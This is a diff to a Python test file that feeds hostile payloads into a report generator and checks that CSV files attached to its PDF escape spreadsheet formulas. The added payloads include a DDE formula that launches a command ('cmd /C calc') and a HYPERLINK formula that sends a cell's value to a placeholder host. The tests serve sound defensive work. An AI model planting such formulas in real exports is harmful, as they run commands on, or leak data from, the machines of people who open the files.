@@ -34,6 +34,11 @@ PAYLOADS = {
     "jinja": "{{ 7*191 }}{% for x in [1] %}LOOP{% endfor %}{# note #}",
     "markdown": "**粗体** # 标题 [链接](https://example.com/x) `code`",
     "latex": r"$x^2$ 与 $\textbf{粗体}$ \section{S}",
+    # text between angle brackets that is no tag: shown whole (issue 22, item 3)
+    "angles": "Shares: firms <50 staff and >10 years, 5 < 6",
+    # spreadsheet formulas: text on the page, and behind a ' in the PDF's CSV files (item 4)
+    "formula": '=HYPERLINK("http://example.invalid/?q="&A1,"点击")',
+    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
     "long_ascii": "A" * 300,
     "long_cjk": "".join(chr(0x4E00 + (i * 37) % 20000) for i in range(200)),
 }
@@ -71,11 +76,12 @@ def _events(rows: list[dict[str, str]]) -> None:
     for row, name in zip(rows, order, strict=False):
         _both(row, "title", PAYLOADS[name])
     rows[-1]["date_text"] = PAYLOADS["attribute"]
+    _both(rows[len(order)], "title", PAYLOADS["dde"])
 
 
 def _projects(rows: list[dict[str, str]]) -> None:
     # names also run through the section's narrative, a paragraph the PDF text keeps in one piece
-    names = [name for name in PAYLOADS if name != "attribute"]
+    names = [name for name in PAYLOADS if name not in ("attribute", "angles", "formula", "dde")]
     assert len(rows) >= len(names)
     for row, name in zip(rows, names, strict=False):
         _both(row, "name", PAYLOADS[name])
@@ -92,6 +98,7 @@ def _cases(rows: list[dict[str, str]]) -> None:
     companies[-1]["subject"] = PAYLOADS["svg"]
     events = [r for r in rows if r["subject_kind"] == "event"]
     _both(events[0], "measure", PAYLOADS["img"])
+    _both(events[1], "measure", PAYLOADS["angles"])
 
 
 def _sources(rows: list[dict[str, str]]) -> None:
@@ -105,6 +112,7 @@ def _figures(rows: list[dict[str, str]]) -> None:
     # the quote is shown in the appendix and in every number's tooltip (an attribute)
     rows[0]["quote"] = PAYLOADS["attribute"] + rows[0]["quote"]
     rows[1]["quote"] = PAYLOADS["script"] + rows[1]["quote"]
+    rows[2]["quote"] = PAYLOADS["formula"] + rows[2]["quote"]
 
 
 def _indicators(rows: list[dict[str, str]]) -> None:
@@ -217,6 +225,26 @@ def _words_outside_the_page(pdf: Path) -> list[str]:
 
 def test_pdf_keeps_long_strings_inside_the_page(hostile_builds, lang: str):
     assert _words_outside_the_page(hostile_builds[lang] / "briefing.pdf") == []
+
+
+def test_the_pdfs_csv_files_carry_no_formula_from_the_data(hostile_builds, lang: str, tmp_path):
+    from report_utils.export.csv_files import FORMULA_STARTS
+
+    subprocess.run(
+        ["pdfdetach", "-saveall", "-o", str(tmp_path), str(hostile_builds[lang] / "briefing.pdf")],
+        check=True,
+    )
+    cells = [
+        cell
+        for path in tmp_path.glob("*.csv")
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
+        for cell in row
+    ]
+    assert [
+        c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?[\d.]+%?", c)
+    ] == []
+    assert "'" + PAYLOADS["dde"] in cells  # the event's row, whole, behind the mark
+    assert any(c.startswith("'" + PAYLOADS["formula"]) for c in cells)  # the quote's
 
 
 # --- in the browser -----------------------------------------------------------------------------
